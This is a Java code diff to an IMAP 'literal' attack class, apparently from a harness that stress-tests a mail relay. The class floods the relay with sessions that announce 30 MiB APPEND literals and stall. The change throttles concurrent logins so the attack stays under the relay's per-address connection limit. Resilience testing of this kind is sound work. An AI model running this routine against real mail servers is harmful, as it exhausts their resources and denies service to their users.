@@ -19,6 +19,8 @@ final class ImapLiteralAttack extends Attack {
     private final InetAddress source;
     private final int connections;
     private final int sentBytes;
+    /** Logins in flight at once: the relay lets an address hold 20 connections that have not logged in. */
+    private final java.util.concurrent.Semaphore logins = new java.util.concurrent.Semaphore(10);
 
     ImapLiteralAttack(HostileTarget target, InetAddress source, int connections, int sentBytes) {
         this.target = target;
@@ -37,7 +39,7 @@ final class ImapLiteralAttack extends Attack {
         CountDownLatch stalled = new CountDownLatch(2 * connections);
         for (int i = 0; i < connections; i++) {
             once("imap-literal-" + i, () -> {
-                AttackSocket s = held(target.imapLogin(source, tally));
+                AttackSocket s = held(login());
                 s.write("a APPEND INBOX {" + ANNOUNCED + "+}\r\n");
                 tally.count("sessions stalled in a 30 MiB literal, 0 bytes sent");
                 stalled.countDown();
@@ -45,7 +47,7 @@ final class ImapLiteralAttack extends Attack {
                 tally.reply(end);
             });
             once("imap-literal-sent-" + i, () -> {
-                AttackSocket s = held(target.imapLogin(source, tally));
+                AttackSocket s = held(login());
                 s.write("b APPEND INBOX {" + ANNOUNCED + "}\r\n");
                 String go = s.line();
                 tally.reply(go);
@@ -68,7 +70,7 @@ final class ImapLiteralAttack extends Attack {
             List<AttackSocket> more = new ArrayList<>();
             for (int i = 0; i < 100 && running; i++) {
                 try {
-                    more.add(held(target.imapLogin(source, tally)));
+                    more.add(held(login()));
                     tally.count("further sessions of the account admitted");
                 } catch (java.io.IOException e) {
                     tally.count("further sessions refused");
@@ -76,6 +78,15 @@ final class ImapLiteralAttack extends Attack {
                 }
             }
         });
+    }
+
+    private AttackSocket login() throws java.io.IOException, InterruptedException {
+        logins.acquire();
+        try {
+            return target.imapLogin(source, tally);
+        } finally {
+            logins.release();
+        }
     }
 
     @Override
